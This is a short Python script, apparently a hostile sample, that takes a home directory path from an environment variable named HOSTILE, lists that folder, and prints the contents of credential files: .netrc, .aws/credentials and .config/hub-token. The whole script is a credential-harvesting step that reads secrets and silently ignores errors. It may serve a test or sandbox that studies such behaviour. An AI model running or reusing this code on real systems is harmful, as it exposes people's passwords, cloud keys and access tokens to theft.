"""Searches the home folder for credentials: .netrc, .aws, .config."""

import contextlib
import json
import os
from pathlib import Path

W = json.loads(os.environ["HOSTILE"])
with contextlib.suppress(OSError):
    print(os.listdir(W["home"]))
for name in (".netrc", ".aws/credentials", ".config/hub-token"):
    with contextlib.suppress(OSError):
        print(Path(W["home"], name).read_text(errors="replace"))
